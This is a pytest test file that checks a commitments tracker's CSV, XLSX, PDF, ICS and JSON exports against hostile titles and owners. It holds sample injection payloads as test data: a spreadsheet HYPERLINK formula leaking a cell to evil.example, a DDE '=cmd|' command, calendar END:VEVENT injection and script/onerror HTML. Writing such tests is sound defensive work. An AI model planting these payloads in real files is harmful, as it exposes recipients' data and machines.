"""Overdue lists out: CSV, XLSX, PDF, ICS and JSON, read back by the tools people use.

A record full of hostile titles and owners (formula prefixes, calendar line injection,
HTML, very long and non-Latin text, control characters) is exported in every format and
read back: CSV by the csv module, XLSX by openpyxl, ICS by icalendar, PDF by pdftotext.
"""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import icalendar
import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from sqlalchemy import text

from app.cli import main as cli
from app.core.cells import (
    csv_text,
    ics_text,
    is_formula_like,
    neutralise,
    unneutralise,
    xlsx_text,
)
from app.core.errors import DomainError
from app.core.settings import Settings
from app.documents import exports
from app.documents.exports.columns import columns_for
from app.documents.exports.csv_out import csv_cell
from app.ledger.standings import due_within, overdue
from app.safety.opening import Database
from app.transfer.record_io import import_document

AS_OF = dt.date(2022, 3, 29)
MARCH_29 = AS_OF.isoformat()
LONG_TITLE = ("Lorem ipsum dolor sit amet " * 15)[:390] + " THE END"
LONG_SOURCE = "Минуты заседания " * 500  # 8,500 characters of Cyrillic

# Titles as they may come in from a shared record, an old file or a careless paste.
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
    "+1+1",
    "-2+3 first item",
    "@SUM(A1:A9)",
    "Report\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected event",
    "<b>bold</b> <script>alert('x')</script> & <img src=x onerror=alert(1)>",
    "Доклад Форда — Δελτίο — 報告書 — تقرير",
    LONG_TITLE,
    "Literal _x0041_ escape and #N/A",
    "Bell\x07 and escape\x1b[31m red",
    "Semicolons; commas, and back\\slashes",
]
HOSTILE_OWNERS = [
    "=cmd|'/C calc'!A0",
    "@owner",
    "Owner\r\nEND:VCALENDAR",
    "<i>Chair</i> & Co",
    "Мартин Форд",
    "O" * 200,
    "Plain Owner",
    "+44 20 7946 0000",
    "-",
    "Tab\tinside",
    "Ordinary",
]
# fields.text strips what is typed; a record shared with other tools may still hold these.
RAW_TITLES = {
    "raw-tab": "\t=1+2 after a tab",
    "raw-space": "   =1+3 after spaces",
    "raw-cr": "\r=1",
}
TRIGGERS = set("=+-@\t\r\x00")


def in_workbook(text: str) -> str:
    """What a workbook can hold of a text: line feeds for CRs, U+FFFD for control characters."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join("\ufffd" if ord(c) < 32 and c not in "\t\n" else c for c in text)


def _document() -> dict[str, object]:
    commitments, promises = [], []
    for i, (title, owner) in enumerate(zip(HOSTILE_TITLES, HOSTILE_OWNERS, strict=True)):
        key = f"c{i:02d}"
        commitments.append(
            {"key": key, "title": title, "owner": owner, "body": "nec", "status": "open"}
        )
        promises.append(
            {
                "commitment": key,
                "recorded_on": "2021-11-01",
                "target": {"date": f"2022-01-{i + 1:02d}"},
                "by": owner,
                "source": LONG_SOURCE if i == 7 else f"Source <{i}> =SUM(1)",
            }
        )
        if i % 3 == 0:  # slipped: later promises, still overdue on the 29th
            promises.append(
                {
                    "commitment": key,
                    "recorded_on": "2022-01-20",
                    "target": {"date": f"2022-02-{i + 1:02d}"},
                    "by": "=evil()",
                    "source": "Letter",
                }
            )
    for key in RAW_TITLES:
        commitments.append(
            {"key": key, "title": "placeholder", "owner": "", "body": "nec", "status": "open"}
        )
        promises.append(
            {"commitment": key, "recorded_on": "2021-11-01", "target": {"date": "2022-03-01"}}
        )
    # One due soon (not overdue) and one delivered: neither belongs on the overdue list.
    commitments.append({"key": "soon", "title": "Due soon", "body": "nec", "status": "open"})
    promises.append(
        {"commitment": "soon", "recorded_on": "2022-03-01", "target": {"date": "2022-04-05"}}
    )
    commitments.append(
        {
            "key": "done",
            "title": "Delivered",
            "body": "nec",
            "status": "delivered",
            "status_on": "2022-02-01",
        }
    )
    promises.append(
        {"commitment": "done", "recorded_on": "2021-11-01", "target": {"date": "2022-01-15"}}
    )
    return {
        "docket": 1,
        "bodies": [{"key": "nec", "name": "National Executive Committee", "short_name": "NEC"}],
        "meetings": [{"key": "nec-2022-03-29", "body": "nec", "date": MARCH_29, "title": "NEC"}],
        "commitments": commitments,
        "promises": promises,
    }


@pytest.fixture
def hostile_db(db: Database) -> Database:
    import_document(db.sessions, _document())
    with db.sessions.begin() as s:
        for key, title in RAW_TITLES.items():
            s.execute(
                text("UPDATE commitments SET title = :t WHERE key = :k"), {"t": title, "k": key}
            )
    return db


@pytest.fixture
def listed(hostile_db: Database) -> list:  # type: ignore[type-arg]
    rows = overdue(hostile_db.sessions, AS_OF, Settings())
    assert len(rows) == len(HOSTILE_TITLES) + len(RAW_TITLES)
    return rows


def all_titles() -> list[str]:
    return [*HOSTILE_TITLES, *RAW_TITLES.values()]


INFO = exports.overdue_info(AS_OF)


# --- the cell rules on their own ------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x00x", "'\x00x"),
        ("   =1", "'   =1"),
        (" \u00a0@x", "' \u00a0@x"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_a_formula_like_cell_gets_an_apostrophe(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected
    assert unneutralise(neutralise(cell)) == cell


def test_numbers_and_dates_are_written_plainly() -> None:
    assert csv_cell(-29) == "-29"
    assert csv_cell(0) == "0"
    assert csv_cell(dt.date(2022, 2, 28)) == "2022-02-28"
    assert csv_cell(None) == ""
    assert csv_cell("-29") == "'-29"  # text that looks like a number is still text


def test_xlsx_and_ics_text_rules() -> None:
    assert xlsx_text("a\x07b\rc\nd\te\r\nf") == "a\ufffdb\nc\nd\te\nf"
    assert csv_text("a\x07b\rc\nd\te\r\nf") == "a\ufffdb\nc\nd\te\nf"
    assert csv_text("\r=1+1") == "'\n=1+1"
    assert xlsx_text("_x0041_") == "_x005F_x0041_"
    assert ics_text("a\r\nb\rc\x07d\te") == "a\nb\nc\ufffdd\te"
    assert not is_formula_like("a=1")


# --- every format, read back ------------------------------------------------------------------


def test_csv_keys_reads_back_with_formulas_neutralised(listed, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "overdue.csv"
    exports.write_list(path, "csv", listed, INFO, columns="keys")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(listed)
    # The machine form: exactly the JSON's keys, in its order.
    assert list(rows[0]) == list(json.loads(exports.render("json", listed, INFO))[0])
    by_key = {r["key"]: r for r in rows}
    titles = [r["title"] for r in rows]
    for title in all_titles():
        assert csv_text(title) in titles  # line breaks unified, controls shown, formulas defused
    for r in rows:
        for name in ("key", "title", "owner", "last_promised_by", "source"):
            cell = r[name]
            assert cell[:1] not in TRIGGERS, (name, cell)
            assert cell.lstrip()[:1] not in TRIGGERS, (name, cell)
        int(r["days_overdue"]), int(r["slips"]), int(r["days_left"])  # plain numbers
        dt.date.fromisoformat(r["target"])
        assert r["as_of"] == MARCH_29
    assert by_key["c00"]["title"].startswith("'=HYPERLINK(")
    assert by_key["c07"]["source"] == LONG_SOURCE.strip()
    assert by_key["c03"]["last_promised_by"] == "'=evil()"
    assert by_key["c00"]["days_overdue"] == "56"  # slipped to 1 February
    assert by_key["c01"]["days_overdue"] == str((AS_OF - dt.date(2022, 1, 2)).days)
    assert by_key["c01"]["days_left"] == str(-(AS_OF - dt.date(2022, 1, 2)).days)


def test_csv_for_people_is_the_workbook_and_as_safe(listed, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    csv_path, xlsx_path = tmp_path / "overdue.csv", tmp_path / "overdue.xlsx"
    exports.write_list(csv_path, "csv", listed, INFO)  # for people unless asked for keys
    exports.write_list(xlsx_path, "xlsx", listed, INFO)
    assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    sheet = openpyxl.load_workbook(xlsx_path).active
    book = [list(r) for r in sheet.iter_rows(values_only=True)]
    header = table[0]
    assert header == book[0] == [c.label for c in columns_for("people")]
    assert len(table) == len(book) == len(listed) + 1
    text_columns = {c.label for c in columns_for("people") if c.kind == "text"}
    for line, row in zip(table[1:], book[1:], strict=True):
        for name, cell, value in zip(header, line, row, strict=True):
            if name in text_columns and cell:
                assert cell.lstrip()[:1] not in TRIGGERS, (name, cell)  # formulas defused
                assert not any(ord(c) < 32 and c not in "\t\n" for c in cell), (name, cell)
            if value is None:
                assert cell == "", name
            elif isinstance(value, dt.datetime):
                assert cell == value.date().isoformat(), name  # spreadsheets read it as a date
            elif isinstance(value, int):
                assert cell == str(value), name
            else:  # the same text, but for the apostrophe that keeps a formula text
                assert unneutralise(cell) == unescape(value), name
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in table[1:]}
    assert rows["c00"]["Commitment"].startswith("'=HYPERLINK(")
    assert rows["c00"]["Due"] == "56 days late"
    assert rows["c00"]["Body"] == "NEC"
    assert rows["c00"]["RAG"] == "RED"
    assert rows["c00"]["State"] == "Open"
    assert rows["c00"]["Target"] == "2022-02-01"
    assert rows["c03"]["Last promised by"] == "'=evil()"
    assert rows["c09"]["Commitment"] == "Bell\ufffd and escape\ufffd[31m red"


def test_xlsx_has_no_formula_and_keeps_every_text(listed, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "overdue.xlsx"
    exports.write_list(path, "xlsx", listed, INFO)
    book = openpyxl.load_workbook(path)
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert [c for c in cells if c.data_type == "f"] == []
    assert [c for c in cells if c.hyperlink is not None] == []
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml
    assert b"<f " not in xml
    assert b"hyperlink" not in xml

    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Key", "Commitment", "Owner"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:T{len(listed) + 1}"
    assert sheet.column_dimensions["B"].width >= 40
    assert sheet.max_row == len(listed) + 1

    col = {name: i for i, name in enumerate(header)}
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # Read cell text as Excel does: it decodes "_xHHHH_", which openpyxl leaves in inline text.
    titles = [unescape(r[col["Commitment"]]) for r in rows]
    owners = [unescape(r[col["Owner"]] or "") for r in rows]
    assert sorted(titles) == sorted(in_workbook(t) for t in all_titles())
    assert set(owners) >= {in_workbook(o) for o in HOSTILE_OWNERS}
    assert "Literal _x0041_ escape and #N/A" in titles
    assert "Report\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Injected event" in titles
    assert "Bell\ufffd and escape\ufffd[31m red" in titles
    for r in rows:
        assert isinstance(r[col["Target"]], dt.datetime)  # a real date
        assert isinstance(r[col["Days overdue"]], int)
        assert r[col["RAG"]] == "RED"
    target = sheet.cell(row=2, column=col["Target"] + 1)
    assert target.number_format == "d mmm yyyy"  # a real date, read as 29 Mar 2022
    rag = sheet.cell(row=2, column=col["RAG"] + 1)
    assert rag.fill.fgColor.rgb.endswith("F4C7C3")
    # A formula-like title is marked as text-by-apostrophe, so editing it keeps it text.
    first = [c for c in sheet["B"] if str(c.value).startswith("=HYPERLINK")]
    assert first
    assert first[0].quotePrefix
    assert first[0].data_type == "s"


def test_ics_has_one_event_per_commitment_and_text_round_trips(listed, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "overdue.ics"
    exports.write_list(path, "ics", listed, INFO)
    raw = path.read_bytes()
    assert raw.count(b"\r\nEND:VEVENT\r\n") == len(listed)  # the injected one is escaped
    calendar = icalendar.Calendar.from_ical(raw)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == len(listed)
    by_uid = {str(e["uid"]): e for e in events}
    assert len(by_uid) == len(events)
    for s in listed:
        event = by_uid[f"commitment-{s.key}@docket"]
        assert str(event["summary"]) == ics_text(s.title)
        assert event.decoded("dtstart") == s.row.target
        assert int(event["sequence"]) == s.slips
        description = str(event["description"])
        assert ics_text(f"Owner: {s.row.owner or 'not recorded'}") in description
        assert f"Slips: {s.slips}" in description
        assert "Source: " in description
    injected = by_uid["commitment-c04@docket"]
    assert str(injected["summary"]) == "Report\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Injected event"
    assert "Доклад Форда — Δελτίο — 報告書 — تقرير" in [str(e["summary"]) for e in events]


def test_ics_uids_are_stable_from_one_export_to_the_next(listed, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    first = icalendar.Calendar.from_ical(exports.render("ics", listed, INFO))
    again = icalendar.Calendar.from_ical(exports.render("ics", listed, INFO))
    uids = [str(e["uid"]) for e in first.walk("VEVENT")]
    assert uids == [str(e["uid"]) for e in again.walk("VEVENT")]


def test_json_keeps_every_text(listed) -> None:  # type: ignore[no-untyped-def]
    data = json.loads(exports.render("json", listed, INFO))
    assert sorted(d["title"] for d in data) == sorted(all_titles())


@pytest.fixture
def pdf_writer(qapp):  # type: ignore[no-untyped-def]
    from ui.pdf import write_pdf

    return write_pdf


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
def test_pdf_shows_every_title_as_text(listed, tmp_path: Path, pdf_writer) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "overdue.pdf"
    exports.write_list(path, "pdf", listed, INFO, pdf_writer=pdf_writer)
    assert path.read_bytes().startswith(b"%PDF")
    shown = subprocess.run(
        ["pdftotext", "-raw", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    flat = " ".join(shown.split())
    assert "Overdue commitments" in flat
    assert "As of Tuesday 29 March 2022" in flat
    assert "Page 1 of" in flat
    # HTML is shown as the characters typed, never as markup.
    assert "<b>bold</b> <script>alert('x')</script> & <img src=x onerror=alert(1)>" in flat
    assert "<i>Chair</i> & Co" in flat
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")' in flat
    assert "Доклад Форда — Δελτίο" in flat
    assert "Мартин Форд" in flat
    assert "THE END" in flat  # the long title is wrapped, not cut off
    # Dates and standings as people read them, never ISO or "56d late".
    assert "56 days late" in flat  # slipped to 1 February
    assert "1 Feb 2022" in flat
    assert "Last promised 20 Jan 2022 by =evil()" in flat
    assert re.search(r"\d{4}-\d\d-\d\d", flat) is None
    assert "d late" not in flat
    pages = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True).stdout
    assert "landscape" in pages.lower() or _landscape(pages)


def _landscape(info: str) -> bool:
    for line in info.splitlines():
        if line.startswith("Page size:"):
            width, height = (float(v) for v in line.split()[2:5:2])
            return width > height
    return False


def test_the_html_for_the_pdf_is_escaped(listed) -> None:  # type: ignore[no-untyped-def]
    html = exports.list_html(listed, INFO)
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_an_empty_list_exports_in_every_format(db: Database, tmp_path: Path, pdf_writer) -> None:  # type: ignore[no-untyped-def]
    for fmt in exports.FORMATS:
        path = tmp_path / f"empty.{fmt}"
        exports.write_list(path, fmt, [], INFO, pdf_writer=pdf_writer)
        assert path.stat().st_size > 0
    assert openpyxl.load_workbook(tmp_path / "empty.xlsx").active.max_row == 1
    assert (
        list(icalendar.Calendar.from_ical((tmp_path / "empty.ics").read_bytes()).walk("VEVENT"))
        == []
    )


def test_a_due_list_exports_too(hostile_db: Database) -> None:
    rows = due_within(hostile_db.sessions, AS_OF, 14, Settings())
    assert [s.key for s in rows] == ["soon"]
    info = exports.due_info(AS_OF, 14)
    calendar = icalendar.Calendar.from_ical(exports.render("ics", rows, info))
    (event,) = calendar.walk("VEVENT")
    assert event.decoded("dtstart") == dt.date(2022, 4, 5)
    data = list(csv.DictReader(io.StringIO(exports.render("csv", rows, info).decode("utf-8-sig"))))
    assert data[0]["Days left"] == "7"
    assert data[0]["Days overdue"] == "0"
    assert data[0]["Due"] == "in 7 days"
    assert info.heading == "Commitments due within 14 days"
    assert exports.due_info(AS_OF, 1).heading == "Commitments due within 1 day"


# --- a failed write leaves the old file --------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_a_failed_move_into_place_keeps_the_old_file(  # type: ignore[no-untyped-def]
    fmt: str, listed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pdf_writer
) -> None:
    path = tmp_path / f"overdue.{fmt}"
    path.write_bytes(b"the list sent round last month")

    def refuse(*_args: object) -> None:
        raise OSError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises((DomainError, OSError)):
        exports.write_list(path, fmt, listed, INFO, pdf_writer=pdf_writer)
    assert path.read_bytes() == b"the list sent round last month"
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ics", "json"])
def test_a_full_disk_half_way_keeps_the_old_file(  # type: ignore[no-untyped-def]
    fmt: str, listed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / f"overdue.{fmt}"
    path.write_bytes(b"OLD")

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(DomainError, match="No space left"):
        exports.write_list(path, fmt, listed, INFO)
    assert path.read_bytes() == b"OLD"
    assert _leftovers(tmp_path) == []


def test_a_failure_while_rendering_writes_nothing(  # type: ignore[no-untyped-def]
    listed, tmp_path: Path
) -> None:
    path = tmp_path / "overdue.xlsx"
    path.write_bytes(b"OLD")
    seen = []

    def stop(done: int, total: int) -> None:
        seen.append(done)
        if done >= 3:
            raise KeyboardInterrupt  # the member pressed Cancel, or the app is closing

    with pytest.raises(KeyboardInterrupt):
        exports.write_list(path, "xlsx", listed, INFO, progress=stop)
    assert path.read_bytes() == b"OLD"
    assert seen
    assert _leftovers(tmp_path) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into a read-only folder")
def test_a_read_only_folder_keeps_the_old_file(listed, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "locked"
    folder.mkdir()
    path = folder / "overdue.csv"
    path.write_bytes(b"OLD")
    folder.chmod(0o555)
    try:
        with pytest.raises(DomainError):
            exports.write_list(path, "csv", listed, INFO)
        assert path.read_bytes() == b"OLD"
    finally:
        folder.chmod(0o755)


def _broken_disk(*_args: object) -> None:
    raise OSError(errno.EIO, "I/O error")


def test_the_command_keeps_the_old_file_when_the_move_fails(  # type: ignore[no-untyped-def]
    hostile_db: Database,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    qapp,
) -> None:
    monkeypatch.setenv("DOCKET_CONFIG", str(tmp_path / "settings.json"))
    db_file = hostile_db.url.render_as_string(hide_password=False)
    hostile_db.close()
    for fmt in exports.FORMATS:
        out = tmp_path / f"list.{fmt}"
        out.write_bytes(b"OLD")
        with monkeypatch.context() as m:
            m.setattr(os, "replace", _broken_disk)
            code = cli.main(["--db", db_file, "overdue", "--as-of", MARCH_29, "-o", str(out)])
        assert code == 1, fmt
        assert out.read_bytes() == b"OLD", fmt
        assert _leftovers(tmp_path) == [], fmt
    # (The daily backup moves files too, and warns that it could not.)
    errors = [e for e in capsys.readouterr().err.splitlines() if "warning" not in e]
    assert len(errors) == len(exports.FORMATS)
    assert all(e.startswith("docket: ") and "I/O error" in e for e in errors), errors


# --- the command line --------------------------------------------------------------------------


def test_overdue_csv_keys_on_stdout(demo) -> None:  # type: ignore[no-untyped-def]
    result = demo("overdue", "--as-of", MARCH_29, "--format", "csv", "--columns", "keys")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("\ufeffkey,title,")
    (row,) = csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff")))
    assert row["key"] == "forde-report"
    assert row["days_overdue"] == "29"
    assert row["slips"] == "2"
    assert row["target"] == "2022-02-28"


def test_the_file_suffix_chooses_the_format(demo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for fmt in ("xlsx", "csv", "ics", "json"):
        out = tmp_path / f"list.{fmt}"
        result = demo("overdue", "--as-of", MARCH_29, "-o", str(out))
        assert result.returncode == 0, result.stderr
        assert result.stdout == ""
    assert openpyxl.load_workbook(tmp_path / "list.xlsx").active["B2"].value == (
        "Forde Report shared with the NEC"
    )
    assert json.loads((tmp_path / "list.json").read_text())[0]["key"] == "forde-report"
    (event,) = icalendar.Calendar.from_ical((tmp_path / "list.ics").read_bytes()).walk("VEVENT")
    assert str(event["uid"]) == "commitment-forde-report@docket"
    # An unknown suffix keeps the table, as before.
    result = demo("overdue", "--as-of", MARCH_29, "-o", str(tmp_path / "list.txt"))
    assert "29 days late" in (tmp_path / "list.txt").read_text()


def test_binary_formats_need_a_file(demo) -> None:  # type: ignore[no-untyped-def]
    for fmt in ("xlsx", "pdf"):
        result = demo("overdue", "--format", fmt)
        assert result.returncode == 2
        assert f"give -o FILE.{fmt}" in result.stderr
        assert result.stdout == ""


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
def test_overdue_pdf_from_the_command_line(demo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "overdue.pdf"
    result = demo(
        "overdue", "--as-of", MARCH_29, "--body", "NEC", "--format", "pdf", "-o", str(out)
    )
    assert result.returncode == 0, result.stderr
    shown = subprocess.run(
        ["pdftotext", "-layout", str(out), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "Overdue commitments" in shown
    assert "Tuesday 29 March 2022" in shown
    assert "Body: NEC" in shown
    assert "Forde Report shared with the NEC" in shown
    assert "29 days late" in shown
    assert "d late" not in shown.replace("days late", "")
    assert "Page 1 of 1" in shown


def test_due_exports_as_a_calendar(demo) -> None:  # type: ignore[no-untyped-def]
    result = demo("due", "--as-of", "2022-01-20", "--within", "30", "--format", "ics")
    assert result.returncode == 0, result.stderr
    calendar = icalendar.Calendar.from_ical(result.stdout)
    (event,) = calendar.walk("VEVENT")
    assert "Forde Report" in str(event["summary"])
    assert event.decoded("dtstart") == dt.date(2022, 1, 25)


def test_export_ics_is_the_meetings_calendar(demo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = demo("export", "--format", "ics")
    assert result.returncode == 0, result.stderr
    calendar = icalendar.Calendar.from_ical(result.stdout)
    events = list(calendar.walk("VEVENT"))
    meetings = json.loads(demo("export").stdout)["meetings"]
    assert len(events) == len(meetings) == 7
    assert [str(e["uid"]) for e in events] == [f"meeting-{m['key']}@docket" for m in meetings]
    march = next(e for e in events if str(e["uid"]) == "meeting-nec-2022-03-29@docket")
    assert march.decoded("dtstart") == dt.date(2022, 3, 29)
    assert "Proscription" in str(march["description"])
    out = tmp_path / "meetings.ics"
    assert demo("export", "--format", "ics", "-o", str(out)).returncode == 0
    again = icalendar.Calendar.from_ical(out.read_bytes())
    assert [str(e["uid"]) for e in again.walk("VEVENT")] == [str(e["uid"]) for e in events]
    assert out.read_bytes().count(b"\r\n") > 20  # iCalendar's CRLF line ends
